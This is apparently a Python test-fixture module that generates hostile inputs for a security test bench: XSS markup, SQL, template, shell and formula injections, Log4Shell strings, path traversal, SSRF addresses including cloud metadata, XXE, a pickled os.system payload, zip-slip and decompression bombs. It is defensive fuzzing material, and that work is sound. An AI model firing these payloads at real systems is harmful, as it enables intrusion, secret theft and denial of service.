"""Hostile input, by family: what attackers write into fields, addresses, statements and files.

Our own writing after the families of the OWASP testing guide and CWE; `bench.security` sends it through every door and
looks at every page. ``{trap}`` stands for the address of a server that nobody may ever call.
"""

from __future__ import annotations

import gzip
import io
import itertools
import json
import zipfile

MARK = "hurt"
"""What a script would set on the window if it ran."""


def scripts() -> list[str]:
    """Markup that runs a script where it is shown as markup."""
    run = f"window.{MARK}=1"
    tags = [
        f"<script>{run}</script>", f"<img src=x onerror={run}>", f"<svg onload={run}>", f"<body onload={run}>",
        f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>", f"<details open ontoggle={run}>",
        f"<video><source onerror={run}></video>", f"<input autofocus onfocus={run}>", f"<marquee onstart={run}>",
        f"<a href=javascript:{run}>click</a>", f"<form action=javascript:{run}><button>go</button></form>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={run}>", f"<object data=javascript:{run}>",
        f"<template><script>{run}</script></template>", f"<style>@import 'javascript:{run}';</style>",
        f"<link rel=stylesheet href='data:text/css,*{{}}' onload={run}>", "<base href=http://{trap}/>",
        "<meta http-equiv=refresh content='0;url=http://{trap}/'>", "<img src=http://{trap}/seen>",
    ]  # fmt: skip
    breaks = ["", "'>", '">', "</title>", "</textarea>", "</script>", "-->", "]]>", "`", "\\'", "\n", "\x00"]
    turns = [lambda t: t, str.upper, lambda t: t.replace("<", "\uff1c"), lambda t: t.replace("<", "&lt;")]
    made = [b + t for b, t in itertools.product(breaks, tags[:6])] + tags[6:]
    made += [turn(tags[0]) for turn in turns[1:]]
    made += [
        f"{{{{constructor.constructor('{run}')()}}}}", f"${{{run}}}", f"#{{{run}}}", f"javascript:{run}//", f"[x](javascript:{run})",
        f"![x](x\"onerror=\"{run})", f"' onmouseover='{run}", f'" autofocus onfocus="{run}', f"</span><script>{run}</script>",
        f"\u2028{run}\u2029", f"\\u003cscript\\u003e{run}\\u003c/script\\u003e", f"&#60;script&#62;{run}&#60;/script&#62;",
    ]  # fmt: skip
    return made


def injections() -> list[str]:
    """Text that is a statement to whoever evaluates it: SQL, templates, formulas, shells, log look-ups, headers."""
    return [
        "' OR '1'='1", "'; DROP TABLE signals; --", "1; ATTACH '/tmp/x' AS x", "\" OR \"\"=\"", "') UNION SELECT * FROM api_keys --",
        "admin'--", "1 OR 1=1", "%' OR text LIKE '%", "\\'; SELECT pg_sleep(9); --", "'||(SELECT secret_hash FROM api_keys)||'",
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}", "*{7*7}", "@(7*7)", "{0.__class__.__init__.__globals__}",
        "%s%s%s%n", "%(secret)s", "{secret}", "$(touch owned)", "`touch owned`", "; touch owned", "| touch owned", "&& touch owned",
        "\n/bin/touch owned", "$(curl http://{trap}/)", "${jndi:ldap://{trap}/a}", "${env:PATH}", "${${lower:j}ndi:ldap://{trap}/a}",
        "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://{trap}/\",\"x\")",
        "=IMPORTXML(\"http://{trap}/\",\"//a\")", "x\r\nSet-Cookie: allears_session=stolen", "x\r\n\r\n<html>", "x%0d%0aLocation:%20http://{trap}/",
        "x\nERROR forged log line", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "__proto__", "constructor.prototype.x", "__class__",
        "*)(uid=*))(|(uid=*", "' or '1'='1' or ''='", "<!--#exec cmd='touch owned'-->", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system ['touch owned']",
        "gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAV0b3VjaJSFlFKULg==", "eval(compile('1','x','exec'))", "import os;os.system('touch owned')",
    ]  # fmt: skip


def paths() -> list[str]:
    """Names that lead out of a folder."""
    ups = [
        "../",
        "..\\",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "....//",
        "..;/",
        "\u002e\u002e/",
        "..%c0%af",
        "%uff0e%uff0e/",
    ]
    ends = ["etc/passwd", "allears.toml", "desk.db", "space.key"]
    deep = [up * 6 + end for up, end in itertools.product(ups, ends)]
    return [
        *deep, "/etc/passwd", "//etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini", "\\\\server\\share", "~/.ssh/id_rsa",
        "/proc/self/environ", "/dev/zero", "/dev/stdin", "CON", "NUL", "x\x00.csv", ".", "..", "...", "-rf", "--help",
        "a" * 300, "a/" * 200, "*.csv", "{a,b}", "$HOME/x",
    ]  # fmt: skip


def addresses() -> list[str]:
    """Addresses of what must not be asked: this machine, its network, the cloud's secrets; in every spelling."""
    hosts = [
        "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "0", "0.0.0.0", "localhost", "LOCALHOST",
        "localhost.", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
        "[fe80::1]", "[fd00::1]", "10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.0.1", "169.254.169.254", "[::ffff:169.254.169.254]",
        "2852039166", "0xa9fea9fe", "100.64.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255", "240.0.0.1", "192.0.2.1", "[2001:db8::1]",
        "[ff02::1]", "127.0.0.1.", "\u2460\u2461\u2466.0.0.1", "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021", "ip6-localhost",
    ]  # fmt: skip
    plain = [f"https://{host}/hook" for host in hosts]
    dressed = ["https://user:word@example.com/", "https://example.com@127.0.0.1/", "https://127.0.0.1#@example.com/", "https://127.0.0.1:22/",
               "https://example.com:99999/", "https://[::1", "https://", "//127.0.0.1/", "http://127.0.0.1/", "ftp://127.0.0.1/", "gopher://127.0.0.1/",
               "file:///etc/passwd", "data:text/plain,x", "javascript:alert(1)", "dict://127.0.0.1:11211/", "ldap://127.0.0.1/", "unix:///run/x.sock",
               "https:127.0.0.1", "https:/127.0.0.1", "https://\t127.0.0.1/", "https://127.0.0.1\\@example.com/", " https://127.0.0.1/"]  # fmt: skip
    return plain + dressed


def letters() -> list[str]:
    """Unicode that breaks what counts, cuts, compares or shows text."""
    return [
        "\u202egnp.exe", "\u2066\u2069\u202d", "a\u200bb", "\ufeffadmin", "аdmin", "\u0000", "\x01\x02\x7f\x80", "\ud800", "\udfff", "\ud83d",
        "\ufffe\uffff", "\U0010ffff", "e" + "\u0301" * 500, "\u0e33" * 300, "Z\u0351\u036b\u0343" * 100, "\u1160" * 50, "\u3164", "\u00ad" * 100,
        "\ufdfa" * 200, "\u0130\u0131", "\u00df\u1e9e", "\u2028\u2029", "👩‍👩‍👧‍👦" * 50, "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "𝒶𝒹𝓂𝒾𝓃", "ａｄｍｉｎ",
        "\u0001" * 1000, "ﷺ", "\u06dd\u070f", "مرحبا\u200f<b>", "\t\r\n\v\f\u0085", " " * 2000, "\\ud800", "\\u0000", "%00", "%ff%fe", "\u212a\u017f",
    ]  # fmt: skip


def sizes() -> list[str]:
    """Text that is too long, or slow for a pattern that backtracks."""
    return [
        "a" * 100_000, "a@" * 5_000, "a." * 5_000 + "@", "0" * 10_000, "+" + "1" * 5_000, "(" * 5_000, "<" * 5_000, "http://" * 2_000,
        ("a" * 60 + "!") * 200, "x" * 40 + "@" + "y" * 40 + "." * 500, "1-" * 5_000, " " * 10_000 + "x", "no " * 5_000, "ab" * 20_000 + "c",
        "\n" * 10_000, "4111 1111 1111 1111 " * 500, "a" + "\u0301" * 10_000, "DE" + "0" * 3_000, "Am Markt " * 1_000,
    ]  # fmt: skip


def documents() -> list[bytes]:
    """Bodies that are hostile as JSON, or none."""
    deep = 100_000
    return [
        b"", b"\x00", b"null", b"[]", b"{}", b'"x"', b"0", b"NaN", b"Infinity", b"-0", b"1e999999", b"1" * 5_000, b"{", b"[", b'{"a":', b'{"a":1,}',
        b'{"a":1}{"b":2}', b"[" * deep, b'{"a":' * deep, b"[" * 50 + b"]" * 50, b'{"batch":' + b"[" * 2_000 + b"]" * 2_000 + b"}", b'{"text":"\xff\xfe"}',
        b'{"text":"\xed\xa0\x80"}', b'\xef\xbb\xbf{"text":"x"}', b'\xff\xfe{\x00}\x00', b'{"text":"x","text":"y"}', b'{"__proto__":{"role":"cio"},"text":"x"}',
        b'{"text":"' + b"\\u0000" * 1_000 + b'"}', b'{"text":"\\ud800"}', b'{"a":' + b"9" * 10_000 + b"}", b'{"occurred_at":"9999-99-99","text":"x"}',
        b'{"occurred_at":1e300,"text":"x"}', b'{"occurred_at":-62135596801,"text":"x"}', b'{"rating":1e308,"rating_scale":"nps-0-10"}', b"<xml/>",
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>',
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>', b"--boundary\r\n\r\n", b"a=b&c=d", b"GET / HTTP/1.1\r\n\r\n",
        b"\x1f\x8b" + b"\x00" * 50, gzip.compress(b"0" * (200 << 20), 9), gzip.compress(b'{"text":"x"}')[:-4], b"PK\x03\x04" + b"\x00" * 40,
        json.dumps({"batch": [{"type": "track", "event": "x", "userId": "u", "properties": {f"k{i}": i for i in range(20_000)}}]}).encode(),
        json.dumps({"batch": [{}] * 5_000}).encode(), json.dumps({"batch": [{"type": "track"}] * 1_000}).encode(),
        json.dumps({"batch": [{"type": "evil", "userId": "u"}]}).encode(), json.dumps({"text": {"$ne": None}}).encode(),
        json.dumps({"identifiers": {"email": ["a", "b"]}, "text": "x"}).encode(), json.dumps({"identifiers": [[["x"]]], "text": "x"}).encode(),
    ]  # fmt: skip


def statements() -> list[str]:
    """SQL that reads, writes, reaches out or never ends."""
    files = [
        "/etc/passwd",
        "allears.toml",
        "desk.db",
        "../desk.db",
        "s3://bucket/x",
        "http://{trap}/x.csv",
        "/proc/self/environ",
    ]
    readers = [
        "read_csv",
        "read_text",
        "read_blob",
        "read_parquet",
        "read_json",
        "glob",
        "sniff_csv",
        "parquet_metadata",
    ]
    return [f"SELECT * FROM {reader}('{file}')" for reader, file in itertools.product(readers, files)] + [
        "SELECT * FROM '/etc/passwd'", "COPY signals TO 'owned.csv'", "COPY (SELECT 1) TO '/tmp/allears-owned'", "EXPORT DATABASE 'owned'", "ATTACH 'owned.db'",
        "ATTACH 'desk.db' (TYPE sqlite)", "INSTALL httpfs", "LOAD httpfs", "INSTALL sqlite; LOAD sqlite", "SET enable_external_access=true",
        "RESET enable_external_access", "SET lock_configuration=false", "PRAGMA database_list; DROP TABLE signals", "CREATE TABLE x AS SELECT 1",
        "INSERT INTO signals SELECT * FROM signals", "DELETE FROM signals", "UPDATE signals SET text='x'", "DROP VIEW signals", "ALTER TABLE signals ADD x INT",
        "CREATE SECRET (TYPE s3)", "SELECT getenv('PATH')", "SELECT * FROM duckdb_secrets()", "SELECT current_setting('secret_directory')",
        "CALL pragma_version(); COPY (SELECT 1) TO 'owned'", "SELECT 1; SELECT 2", "WITH RECURSIVE t AS (SELECT 1 n UNION ALL SELECT n+1 FROM t) SELECT max(n) FROM t",
        "SELECT count(*) FROM range(100000000) a, range(100000000) b", "SELECT repeat('x', 2000000000)", "SELECT list(r) FROM range(5000000000) t(r)",
        "SELECT string_agg(repeat('x', 1000000), '') FROM range(100000)", "", ";", "--", "SELECT", "SELECT '", "SELECT \x00", "SELEC 1", "\ufeffSELECT 1",
        "VACUUM", "CHECKPOINT", "FORCE CHECKPOINT", "BEGIN; ROLLBACK", "PREPARE v AS SELECT 1", "EXECUTE v", "IMPORT DATABASE '/tmp'", "USE memory", "DETACH memory",
        "SELECT * FROM sqlite_scan('desk.db','api_keys')", "SELECT * FROM postgres_scan('host={trap}','public','x')", "SELECT * FROM query('COPY (SELECT 1) TO ''owned''')",
    ]  # fmt: skip


def files() -> dict[str, bytes]:
    """Files that are hostile by their content; by name."""
    bomb = gzip.compress(b"text\n" + b"a" * 1000 + b"\n" + b"0" * (400 << 20), 9)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("../../owned.csv", b"text\nx\n")
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [' + b"".join(
        b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10 if i else b"ha") for i in range(12)
    )
    return {
        "bomb.csv.gz": bomb, "slip.zip": held.getvalue(), "laughs.xml": laughs + b"]><rss><item>&a11;</item></rss>", "laughs.json": b"[" * 1_000_000,
        "wide.csv": b",".join(b"c%d" % i for i in range(50_000)) + b"\n" + b",".join([b"x"] * 50_000) + b"\n", "nul.csv": b"text\n\x00\x00\n", "quote.csv": b'text\n"never closed',
        "long.csv": b"text\n" + b"a" * (8 << 20) + b"\n", "names.csv": b"text,=cmd|' /C calc'!A0,<script>\nx,y,z\n", "ragged.csv": b"a,b\n1\n1,2,3,4\n",
        "many.csv": b"text\n" + b"\n" * 200_000, "odd.jsonl": b'{"text": 1}\n{"text": []}\nnull\n5\n"x"\n', "deep.jsonl": b'{"a":' * 3_000 + b"1" + b"}" * 3_000 + b"\n",
        "mail.eml": b"From: " + b"a" * 100_000 + b"\nSubject: =?utf-8?q?" + b"=FF" * 5_000 + b"?=\n\n" + b"> " * 50_000, "nest.eml": b"Content-Type: multipart/mixed; boundary=a\n\n" + b"--a\nContent-Type: multipart/mixed; boundary=a\n\n" * 3_000,
        "empty.mbox": b"", "loop.mbox": b"From x\n" * 50_000, "call.vtt": b"WEBVTT\n\n" + b"99:99:99.999 --> 00:00:00.000\n<v " + b"x" * 5_000 + b">y\n\n",
        "call.srt": b"1\n00:00:00,000 --> 99999999:00:00,000\nx\n\n" * 2_000, "fake.parquet": b"PAR1" + b"\x00" * 100 + b"PAR1", "latin.csv": b"text\n\xe9\xff\xfe\n",
        "utf16.csv": "text\nhello\n".encode("utf-16"), "bom.jsonl": b'\xef\xbb\xbf{"text":"x"}\n', "tab.tsv": b"text\tx\n" + b"\t" * 100_000 + b"\n",
    }  # fmt: skip
